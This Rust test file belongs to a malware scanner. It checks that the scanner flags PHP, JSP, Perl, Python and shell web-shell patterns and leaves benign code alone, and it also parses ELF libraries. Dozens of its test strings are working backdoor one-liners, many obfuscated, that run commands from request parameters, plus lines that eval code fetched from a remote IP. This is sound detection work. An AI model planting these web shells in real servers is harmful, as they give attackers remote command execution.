use super::*;
use keeneye_facts::ElfShape;

/// What the lines of a PHP script do.
fn php(code: &str) -> Vec<Does> {
    let text = format!("<?php\n{code}\n");
    match of(&Text::from("/srv/x.php"), text.as_bytes(), false) {
        Shape::Script(script) => script.lines.into_iter().map(|line| line.does).collect(),
        other => panic!("{other:?}"),
    }
}

/// Each script does what fits.
#[track_caller]
fn each(scripts: &[&str], fits: impl Fn(&[Does]) -> bool) {
    let others: Vec<_> = scripts.iter().map(|code| (code, php(code))).filter(|(_, does)| !fits(does)).collect();
    assert!(others.is_empty(), "{others:#?}");
}

#[test]
fn what_a_request_brings_is_run() {
    let scripts = [
        "eval($_POST['a']);",
        "if(false){eval(base64_decode($_POST[\"a\"]));}",
        "@eval(gzinflate(base64_decode($_COOKIE['x'])));",
        "$x = $_REQUEST['c']; system($x);",
        "$x = trim($_GET['c']); $y = \"$x 2>&1\"; echo shell_exec($y);",
        "echo `{$_GET['c']}`;",
        "$c = $_GET['c']; echo `$c`;",
        "$_GET['f']($_POST['c']);",
        "$f = 'as'.'sert'; $f($_POST['x']);",
        "$f = \"\\x65val\"; $f($_POST['x']);",
        "$f = base64_decode('YXNzZXJ0'); $f($_POST['x']);",
        "$f = $_GET['f']; $f($_GET['a']);",
        "${'_PO'.'ST'}; eval(${'_PO'.'ST'}['x']);",
        "$g = '_POST'; eval($$g['x']);",
        "eval($GLOBALS['_POST']['x']);",
        "eval(file_get_contents('php://input'));",
        "assert($_POST['x']);",
        "preg_replace('/.*/e', $_POST['x'], '');",
        "call_user_func('system', $_GET['c']);",
        "eval('system($_GET[\"c\"]);');",
        "call_user_func($_GET['f'], $_GET['c']);",
        "array_map('assert', array($_POST['x']));",
        "usort($_POST['x'], 'system');",
        "create_function('', $_POST['x']);",
        "foreach ($_POST as $k => $v) { eval($v); }",
        "extract($_POST); system($cmd);",
        "function run($c) { return shell_exec($c); } echo run($_GET['c']);",
        "echo run($_GET['c']);\nfunction run($c) { return shell_exec($c); }",
        "class C { public function __invoke($p) { eval($p.''); } } $p = file_get_contents('php://input'); @call_user_func(new C(), $p);",
        "$p = openssl_decrypt(file_get_contents('php://input'), 'AES128', $k); $a = explode('|', $p); $q = $a[1]; eval($q);",
        "class A { function f() { $this->c = $_POST['c']; } function g() { eval($this->c); } }",
        "system($_SERVER['HTTP_X_CMD']);",
        "include 'php://input'; eval(file_get_contents(\"php://input\"));",
    ];
    each(&scripts, |does| does.contains(&Does::RunsInput));
}

#[test]
fn what_is_decoded_or_fetched_is_run() {
    let scripts = [
        "eval(base64_decode('ZWNobyAxOw=='));",
        "$a = gzinflate(base64_decode('eJw')); eval($a);",
        "eval(str_rot13('x'));",
    ];
    each(&scripts, |does| does == [Does::RunsDecoded]);
    assert_eq!(php("eval(file_get_contents('http://192.0.2.1/x'));"), [Does::RunsFetched]);
    assert_eq!(php("file_put_contents('/srv/' . $_GET['f'] . '.txt', $_POST['c']);"), [Does::WritesInput]);
    assert_eq!(php("include $_GET['page'] . '.php';"), [Does::LoadsInput]);
}

#[test]
fn functions_that_are_not_called_by_a_plain_name() {
    let scripts = [
        "(\"sys\".\"tem\")($_GET['c']);",
        "('sys'.'tem')($_GET['c']);",
        "'system'($_GET['c']);",
        "['system'][0]($_GET['c']);",
        "$a = ['system']; $a[0]($_POST['x']);",
        "$a = array('x' => 'sys'.'tem'); $a['x']($_POST['x']);",
        "const F = 'system'; (F)($_GET['c']);",
        "define('F', 'passthru'); (F)($_GET['c']);",
        "(ELSEWHERE)($_GET['c']);",
        "(\"%08%02%08\"^\"{|[\")($_POST['x']);",
        "(~'\\x8c\\x86')($_GET['c']);",
        "$f = \"%1a\"^\"{|[\"; $f($_POST['x']);",
        "$f = str_replace('#', '', 's#ys#tem'); $f($_GET['c']);",
        "$s = 'metsys'; $f = $s[5].$s[4].$s[3].$s[2].$s[1].$s[0]; $f($_GET['c']);",
        "$f = chr(115).chr(121).chr(115).chr(116).chr(101).chr(109); $f($_GET['c']);",
        "base64_decode('c3lzdGVt')($_GET['c']);",
        "(base64_decode('c3lzdGVt'))($_GET['c']);",
        "strrev('metsys')($_GET['c']);",
        "system(...)($_GET['c']);",
        "Closure::fromCallable('system')($_GET['c']);",
        "Closure::fromCallable($_GET['f'])->__invoke($_GET['c']);",
        "$$_[_]($$_[__]);",
        "${'_GE'.'T'}[0](${'_GE'.'T'}[1]);",
        "$o->f = 'system'; ($o->f)($_GET['c']);",
        "[$f, $c] = [$_GET['f'], $_GET['c']]; $f($_GET['c']);",
        "list($f, $c) = explode('|', $_COOKIE['x']); $f($_COOKIE['y']);",
        "$GLOBALS['f'] = $_GET['f']; $_GET['f'](...$_GET['a']);",
    ];
    each(&scripts, |does| does.contains(&Does::RunsInput));
    let scripts = [
        "$a = ['trim']; $a[0]($_POST['x']);",
        "(int)($_GET['x']);",
        "$this->handlers[$name]($request);",
        "$handlers[$name]($_POST);",
        "($this->handler)($_POST);",
        "($handler)($_POST);",
        "$f = 'ajax_' . $_POST['action']; $f($_POST);",
        "$this->$action($_POST);",
        "$x = new $_GET['module']($_GET['scope']);",
        "if ($a) ($b)($c);",
        "const F = 'trim'; (F)($_GET['c']);",
        "app('exec')($_GET['c']);",
        "strlen(...)($_GET['c']);",
        "foo($x)['y']($_GET['c']);",
    ];
    each(&scripts, <[Does]>::is_empty);
}

#[test]
fn functions_inside_others() {
    let scripts = [
        "(function () { eval($_POST['x']); })();",
        "(function ($c) { eval($c); })($_POST['x']);",
        "(static function ($c) { system($c); })($_POST['x']);",
        "(fn($c) => system($c))($_GET['c']);",
        "$f = fn($c) => system($c); $f($_GET['c']);",
        "$f = function ($c) { return shell_exec($c); }; echo $f($_REQUEST['c']);",
        "$r = (function ($c) { return shell_exec($c); })->__invoke($_REQUEST['c']);",
        "call_user_func(function ($c) { eval($c); }, $_POST['x']);",
        "array_map(function ($c) { eval($c); }, $_POST);",
        "array_map(fn($c) => eval($c), $_POST);",
        "new class($_POST['x']) { function __construct($c) { eval($c); } };",
        "(new class { public function x($c) { system($c); } })->x($_GET['c']);",
        "class A { static function run($c) { passthru($c); } } A::run($_GET['c']);",
        "function run() { system(func_get_args()[0]); } run($_GET['c']);",
        "function get() { return $_GET['c']; } system(get());",
        "function run($c) { $f = 'sys'.'tem'; $f($c); } run($_GET['c']);",
        "function run($c) { call_user_func('system', $c); } run($_GET['c']);",
        "array_map('run', $_POST); function run($c) { eval($c); }",
    ];
    each(&scripts, |does| does.contains(&Does::RunsInput));
    let scripts = [
        "(function ($c) { echo $c; })($_POST['x']);",
        "(fn($c) => trim($c))($_GET['c']);",
        "use function array_map; array_map(fn($c) => trim($c), $_POST);",
        "new class($_POST['x']) { function __construct($c) { echo $c; } };",
    ];
    each(&scripts, <[Does]>::is_empty);
    assert_eq!(php("(fn($c) => system($c))('id');"), [Does::Runs]);
    assert_eq!(php("$f = fn($c) => system($c); $c = $_GET['c'];"), [Does::Runs]);
}

#[test]
fn functions_that_are_called_back() {
    let scripts = [
        "$r = new ReflectionFunction('system'); $r->invoke($_GET['c']);",
        "(new ReflectionFunction('system'))->invokeArgs([$_GET['c']]);",
        "(new ReflectionFunction($_GET['f']))->invoke($_GET['c']);",
        "call_user_func_array($_GET['f'], array($_GET['c']));",
        "call_user_func_array($_GET['f'], $args);",
        "$f = $_GET['f']; call_user_func_array($f, [$_GET['c']]);",
        "array_map($_GET['f'], [$_GET['c']]);",
        "array_filter([$_GET['c']], 'system');",
        "array_filter($list, $_GET['f']);",
        "usort($list, $_GET['f']);",
        "uasort($_GET['x'], 'assert');",
        "register_shutdown_function($_GET['f'], $_GET['c']);",
        "register_shutdown_function('system', $_GET['c']);",
        "ob_start($_GET['f']); echo $_GET['c'];",
        "ob_start('system');",
        "iterator_apply($it, $_GET['f'], [$_GET['c']]);",
        "preg_replace_callback('/.*/', $_GET['f'], $_GET['c']);",
        "preg_replace_callback('/.*/', 'system', $_GET['c']);",
        "array_udiff($_GET['x'], [1], 'system');",
        "filter_var($_GET['c'], FILTER_CALLBACK, ['options' => 'system']);",
        "array_map(base64_decode('c3lzdGVt'), [$_GET['c']]);",
    ];
    each(&scripts, |does| does.contains(&Does::RunsInput));
    let scripts = [
        "call_user_func([$this, $_REQUEST['action']], $_POST);",
        "call_user_func(array('Ajax', $_REQUEST['action']), $_POST);",
        "call_user_func('action_' . $_REQUEST['action'], $_POST);",
        "usort($list, 'by_' . $_GET['sort']);",
        "array_map([$this, 'exec'], $_POST);",
        "array_filter($_POST, 'strlen');",
        "ob_start('ob_gzhandler');",
        "filter_var($_GET['c'], FILTER_VALIDATE_INT, ['options' => ['min_range' => 1]]);",
        "register_shutdown_function([$this, 'stop']);",
        "$m = new ReflectionMethod($this, $name); $m->invoke($this, $_POST);",
        "$r = new ReflectionFunction('trim'); $r->invoke($_GET['c']);",
    ];
    each(&scripts, <[Does]>::is_empty);
}

#[test]
fn what_counts_as_brought() {
    let scripts = [
        "$d = json_decode(file_get_contents('php://input'), true); system($d['cmd']);",
        "$d = json_decode(file_get_contents('php://input')); eval($d->code);",
        "system(getallheaders()['X-C']);",
        "$h = apache_request_headers(); eval($h['X']);",
        "system($_SERVER['HTTP_X']);",
        "system($_SERVER['HT'.'TP_X']);",
        "system($GLOBALS['_G'.'ET']['c']);",
        "system($_COOKIE['x']);",
        "system(getenv('HTTP_X'));",
        "system($_SERVER['PHP_AUTH_PW']);",
        "echo `{$_COOKIE['c']}`;",
        "$c ??= $_GET['c']; system($c);",
        "include $_GET['f'];",
        "include($_FILES['f']['tmp_name']);",
        "include 'php://input';",
        "include 'data:text/plain,' . $_GET['c'];",
    ];
    each(&scripts, |does| does.iter().any(|does| matches!(does, Does::RunsInput | Does::LoadsInput)));
    assert_eq!(php("include $_GET['f'];"), [Does::RunsInput]);
    assert_eq!(php("include 'pages/' . $_GET['f'] . '.php';"), [Does::LoadsInput]);
    assert_eq!(php("include 'data:text/plain;base64,PD9waHA=';"), [Does::RunsDecoded]);
    assert_eq!(php("include base64_decode('L3RtcC94');"), [Does::RunsDecoded]);
    assert_eq!(php("include 'http://192.0.2.1/x.txt';"), [Does::RunsFetched]);
    assert_eq!(php("@include \"\\057var/www/favicon_1.ico\";"), [Does::LoadsData]);
    assert_eq!(php("require '/tmp/x.php';"), [Does::LoadsData]);
    let scripts = [
        "include __DIR__ . '/icon.svg';",
        "require dirname(__FILE__) . '/x.php';",
        "include 'data://text/plain,' . urlencode($php);",
        "include get_dir() . '/style.css';",
        "echo 'include logo.png';",
        "$_SERVER['HTTP_HOST']; system_check($_SERVER['HTTP_X']);",
    ];
    each(&scripts, <[Does]>::is_empty);
    let narrow = "foreach ($_REQUEST as $k => $v) { if (!preg_match('/^([a-z0-9_]+)$/', $k)) { return; } eval($k); }";
    assert_eq!(php(narrow), [Does::Runs]);
    assert_eq!(php(&narrow.replace("[a-z0-9_]", ".")), [Does::RunsInput]);
}

#[test]
fn what_is_written() {
    let scripts = [
        "file_put_contents($_GET['f'], $_POST['c']);",
        "$f = $_POST['f']; $c = base64_decode($_POST['c']); file_put_contents($f, $c);",
        "file_put_contents($x.'.php', base64_decode($_POST['c']));",
        "file_put_contents('x.php', $_POST['c']);",
        "file_put_contents('x.php', base64_decode('PD9waHA='));",
        "file_put_contents('x.php', file_get_contents('http://192.0.2.1/x.txt'));",
        "$h = fopen($_GET['f'], 'w'); fwrite($h, $_POST['c']);",
        "fwrite(fopen('x.php', 'w'), $_POST['c']);",
        "move_uploaded_file($_FILES['f']['tmp_name'], $_FILES['f']['name']);",
        "@copy($_FILES['f']['tmp_name'], $_FILES['f']['name']);",
        "move_uploaded_file($_FILES['f']['tmp_name'], $_GET['d']);",
        "$n = $_FILES['f']['name']; $t = $_FILES['f']['tmp_name']; move_uploaded_file($t, $n);",
        "move_uploaded_file($_FILES['f']['tmp_name'], __DIR__ . '/' . $_FILES['f']['name']);",
    ];
    each(&scripts, |does| does == [Does::WritesCode]);
    let scripts = [
        "move_uploaded_file($_FILES['f']['tmp_name'], 'uploads/' . $_FILES['f']['name']);",
        "move_uploaded_file($_FILES['f']['tmp_name'], $dir . '/' . $_FILES['f']['name']);",
        "getimagesize($_FILES['f']['tmp_name']); move_uploaded_file($_FILES['f']['tmp_name'], $_GET['d']);",
    ];
    each(&scripts, |does| does == [Does::WritesInput]);
    let scripts = [
        "move_uploaded_file($_FILES['f']['tmp_name'], 'uploads/' . basename($_FILES['f']['name']));",
        "$e = pathinfo($_FILES['f']['name'], PATHINFO_EXTENSION); if (!in_array($e, ['jpg'])) die(); \
         move_uploaded_file($_FILES['f']['tmp_name'], $_FILES['f']['name']);",
        "move_uploaded_file($_FILES['f']['tmp_name'], $this->target);",
        "$config = \"<?php define('DB', '\" . $_POST['db'] . \"');\"; file_put_contents('config.php', $config);",
        "file_put_contents('config.php', str_replace('{db}', $_POST['db'], $template));",
        "file_put_contents('cache.php', '<?php return ' . var_export($_POST, true) . ';');",
        "file_put_contents($cache, $_POST['c']);",
        "copy('a.php', $_GET['x']);",
    ];
    each(&scripts, <[Does]>::is_empty);
}

#[test]
fn ordinary_code_is_quiet() {
    let scripts = [
        "$x = base64_decode($_POST['x']); echo $x;",
        "// eval($_POST['x']);\n/* eval($_POST['x']); */ # eval($_POST['x'])",
        "echo 'eval($_POST[x])';",
        "$id = intval($_GET['id']); $q = \"select $id\";",
        "$action = $_GET['action']; if (is_callable($action)) { $this->$action(); }",
        "call_user_func(array($this, $_REQUEST['action']));",
        "assert(is_string($_GET['x'])); assert($x instanceof Y);",
        "$data = unserialize(base64_decode($o));",
        "array_map('trim', $_POST);",
        "array_map('intval', $_POST['ids']);",
        "preg_replace('/[^a-z]/i', '', $_GET['x']);",
        "$f = function ($m) { return strrev($m); }; preg_replace_callback('/x/', $f, $_GET['x']);",
        "/* Smarty version 4.3.0 */ echo \"hello\";",
        "file_put_contents($cache, $content);",
        "function eval_template($x) { return $x; } eval_template($_POST['x']);",
        "$curl->exec($_POST['x']);",
        "$db->exec(\"select \" . $_POST['x']);",
    ];
    each(&scripts, <[Does]>::is_empty);
    let scripts = [
        "exec('ls ' . escapeshellarg($_GET['d']));",
        "eval('?>' . $content);",
        "$e = str_replace('a', \"(\\$_COOKIE['x'])\", $e); eval(\"return ($e);\");",
        "$cmd = $_GET['a'] == 'list' ? 'ls' : 'df'; system($cmd);",
        "$cmds = array('a' => 'ls'); system($cmds[$_GET['a']]);",
        "system('kill ' . (int)$_GET['pid']);",
        "function a() { $data = $_POST['x']; } function b($data) { system($data); }",
        "exec(own_quote($_POST['x']));",
    ];
    each(&scripts, |does| does == [Does::Runs]);
}

#[test]
fn other_languages() {
    let does = |path: &str, text: &str| match of(&Text::from(path), text.as_bytes(), false) {
        Shape::Script(script) => script.lines.into_iter().map(|line| line.does).collect(),
        _ => Vec::new(),
    };
    let shell = "<%@ page %>\n<% Runtime.getRuntime().exec(request.getParameter(\"c\")); %>";
    assert_eq!(does("/srv/a.jsp", shell), [Does::RunsInput]);
    assert_eq!(does("/srv/a.jsp", "<%= request.getParameter(\"c\") %>"), []);
    assert_eq!(does("/srv/a.cgi", "#!/usr/bin/perl\nsystem(param('c'));\n"), [Does::RunsInput]);
    assert_eq!(does("/srv/a.cgi", "#!/usr/bin/perl\n# system(param('c'));\nprint param('c');"), []);
    for code in [
        "#!/usr/bin/perl\nuse CGI;\nmy $c = param('c');\nprint `$c`;",
        "#!/usr/bin/perl\nsystem($q->param('cmd'));",
        "#!/usr/bin/perl\nmy $cmd = $q->param('cmd');\nprint \"x\";\nsystem($cmd);",
        "#!/usr/bin/python3\nimport cgi, os\nf = cgi.FieldStorage()\nc = f.getvalue('c')\nprint(os.popen(c).read())",
        "#!/usr/bin/python3\nc = form.getvalue('c')\nsubprocess.check_output(c, shell=True)",
        "#!/bin/sh\nc=$(echo \"$QUERY_STRING\" | sed s/c=//)\neval \"$c\"",
        "#!/bin/sh\nc=${QUERY_STRING#c=}\nsh -c \"$c\"",
    ] {
        assert_eq!(does("/srv/cgi-bin/a.cgi", code), [Does::RunsInput], "{code}");
    }
    for code in [
        "#!/usr/bin/perl\nmy $c = param('c');\nmy $d = 'ls';\nprint `$d`;",
        "#!/usr/bin/perl\nmy $c = param('c');\neval { print $c; };",
        "#!/usr/bin/python3\nc = form.getvalue('c')\nsubprocess.run(['sh', '-c', 'ls'])",
        "#!/bin/sh\nc=$QUERY_STRING\necho \"$c\"",
        "#!/usr/bin/perl\nif (param('c') == 1) { }\nsystem($c);",
    ] {
        assert_eq!(does("/srv/cgi-bin/a.cgi", code), [], "{code}");
    }
    let page = "<%@ page %>\n<% String c = request.getParameter(\"c\");\nnew ProcessBuilder(c).start(); %>";
    assert_eq!(does("/srv/a.jsp", page), [Does::RunsInput]);
    assert_eq!(of(&Text::from("/srv/a.txt"), b"eval", false), Shape::Other);
}

#[test]
fn lines_are_short_and_without_secrets() {
    let text = format!("<?php\n$password = 's3cret'; eval($_POST['x']); // {}\n", "x".repeat(9000));
    let Shape::Script(script) = of(&Text::from("/srv/x.php"), text.as_bytes(), false) else { panic!("no script") };
    assert_eq!(script.lines.len(), 1);
    assert!(script.lines[0].text.len() <= 240 && script.lines[0].number == 2);
    assert!(!script.lines[0].text.contains_str("s3cret"), "{:?}", script.lines[0].text);
    assert!(script.longest > 9000);
}

#[test]
fn deep_nesting_costs_little() {
    let deep = format!("<?php {}$_POST['x']{};", "eval(".repeat(40_000), ")".repeat(40_000));
    let wide = format!("<?php {};", "$a=".repeat(60_000));
    for text in [deep, wide] {
        let Shape::Script(script) = of(&Text::from("/x.php"), text.as_bytes(), false) else { panic!("no script") };
        assert!(script.cut);
    }
}

#[test]
fn hostile_scripts() {
    let seed: &[u8] = b"<html><?php\nfunction run($c, &$d) { return shell_exec($c); }\n$x = $_POST['a']['b'] . \"x\\x41 {$y['z']}\";\n\
        ${'_GE'.'T'}; foreach ($_GET as $k => $v) { echo `ls $v`; }\n$this->c = <<<EOT\nabc $x\nEOT;\neval(base64_decode($x));\n\
        call_user_func(array('a', $x), $_GET['f']);\n?></html>";
    crate::mutate::check(&[seed], |bytes| matches!(of(&Text::from("/x.php"), bytes, false), Shape::Script(_)));
}

#[test]
fn hostile_pages() {
    let seed: &[u8] =
        b"#!/usr/bin/perl\nmy $c = param('c');\nprint `$c`;\nif ($c =~ /x/) { eval \"$c\"; }\nc=${QUERY_STRING}\n";
    crate::mutate::check(&[seed], |bytes| matches!(of(&Text::from("/x.cgi"), bytes, false), Shape::Script(_)));
}

/// What stands behind the middle of a script that is left out.
#[test]
fn the_end_of_a_long_script_is_read() {
    let does = |text: &str| match of(&Text::from("/srv/x.php"), text.as_bytes(), false) {
        Shape::Script(script) => (script.cut, script.lines.into_iter().map(|line| (line.number, line.does)).collect()),
        other => panic!("{other:?}"),
    };
    let long = format!("<?php\n{}", "$a = 1;\n".repeat(500_000));
    assert_eq!(does(&format!("{long}eval($_POST['x']);")), (true, vec![(500_002, Does::RunsInput)]));
    assert_eq!(does(&format!("{long}?>\n<?php eval($_POST['x']);")), (true, vec![(500_003, Does::RunsInput)]));
    assert_eq!(does(&format!("{long}evil($_POST['x']);")), (true, vec![]));
    let html = format!("<?php $a = 1; ?>{}", "<p>eval($_POST['x']);</p>\n".repeat(200_000));
    assert_eq!(does(&format!("{html}<?php echo 1;")), (true, vec![]));
}

/// A small library: headers, a dynamic section, names and symbols, as ld(1) writes them.
fn library() -> Vec<u8> {
    let mut bytes = vec![0_u8; 0x400];
    let put = |bytes: &mut Vec<u8>, at: usize, value: u64, size: usize| {
        bytes[at..at + size].copy_from_slice(&value.to_le_bytes()[..size]);
    };
    bytes[..7].copy_from_slice(b"\x7fELF\x02\x01\x01");
    for (at, value, size) in [(16, 3, 2), (18, 62, 2), (20, 1, 4), (32, 64, 8), (52, 64, 2), (54, 56, 2), (56, 2, 2)] {
        put(&mut bytes, at, value, size);
    }
    let segment = |bytes: &mut Vec<u8>, at: usize, kind: u64, flags: u64, offset: u64, length: u64| {
        put(bytes, at, kind, 4);
        put(bytes, at + 4, flags, 4);
        for (field, value) in [(8, offset), (16, offset), (24, offset), (32, length), (40, length), (48, 8)] {
            put(bytes, at + field, value, 8);
        }
    };
    segment(&mut bytes, 64, 1, 7, 0, 0x400);
    segment(&mut bytes, 120, 2, 6, 0x200, 80);
    let entries = [(1, 1), (5, 0x350), (10, 24), (6, 0x320), (0, 0)];
    for (index, (tag, value)) in entries.into_iter().enumerate() {
        put(&mut bytes, 0x200 + index * 16, tag, 8);
        put(&mut bytes, 0x208 + index * 16, value, 8);
    }
    bytes[0x350..0x350 + 19].copy_from_slice(b"\0libc.so.6\0readdir\0");
    put(&mut bytes, 0x320 + 24, 11, 4);
    put(&mut bytes, 0x320 + 24 + 6, 1, 2);
    bytes
}

fn elf(bytes: &[u8]) -> Option<ElfShape> {
    match of(&Text::from("/x"), bytes, false) {
        Shape::Elf(shape) => Some(shape),
        _ => None,
    }
}

#[test]
fn headers_of_a_library() {
    let shape = elf(&library()).unwrap();
    assert_eq!((shape.bits, shape.is_library, shape.is_static, shape.sections), (64, true, false, false));
    assert!(shape.writable_code && shape.stripped || !shape.sections);
    assert_eq!(shape.needed, [Text::from("libc.so.6")]);
    assert_eq!(shape.hooks, [Text::from("readdir")]);
    assert!(shape.entropy < 50, "{}", shape.entropy);
    assert_eq!(elf(b"\x7fELF"), None);
    assert_eq!(elf(b"\x7fELF\x07\x01\x01"), None);
}

/// The library with a section of that name, in which lie the headers of a file of 1320 bytes.
fn with_section(name: &[u8; 18]) -> Vec<u8> {
    let mut bytes = library();
    let mut undo = library()[..64].to_vec();
    undo[40..48].copy_from_slice(&1000_u64.to_le_bytes());
    (undo[58], undo[60]) = (64, 5);
    let (undo_at, names_at) = (bytes.len() as u64, bytes.len() as u64 + 64);
    bytes.extend([undo.as_slice(), b"\0", name, b"\0", &[0; 4]].concat());
    let table = bytes.len() as u64;
    bytes.extend([0; 64]);
    for (kind, at, length) in [(1_u32, undo_at, 64_u64), (3, names_at, 20)] {
        let mut section = [0; 64];
        section[..4].copy_from_slice(&1_u32.to_le_bytes());
        section[4..8].copy_from_slice(&kind.to_le_bytes());
        section[24..32].copy_from_slice(&at.to_le_bytes());
        section[32..40].copy_from_slice(&length.to_le_bytes());
        bytes.extend(section);
    }
    bytes[40..48].copy_from_slice(&table.to_le_bytes());
    (bytes[58], bytes[60], bytes[62]) = (64, 3, 2);
    bytes
}

#[test]
fn what_prelink_keeps_of_a_file() {
    assert_eq!(elf(&with_section(b".gnu.prelink_undo\0")).unwrap().before_prelink, Some(1320));
    assert_eq!(elf(&with_section(b".gnu.prelink_else\0")).unwrap().before_prelink, None);
    assert_eq!(elf(&library()).unwrap().before_prelink, None);
    crate::mutate::check(&[&with_section(b".gnu.prelink_undo\0")], |bytes| elf(bytes).is_some());
}

#[test]
fn noise_is_measured() {
    let mut bytes = library();
    let mut state = 1_u64;
    while bytes.len() < 100_000 {
        state ^= state << 13;
        state ^= state >> 7;
        state ^= state << 17;
        bytes.push((state >> 32) as u8);
    }
    let length = (bytes.len() as u64).to_le_bytes();
    bytes[96..104].copy_from_slice(&length);
    assert!(elf(&bytes).unwrap().entropy > 95);
}

#[test]
fn hostile_headers() {
    crate::mutate::check(&[&library()], |bytes| elf(bytes).is_some());
}
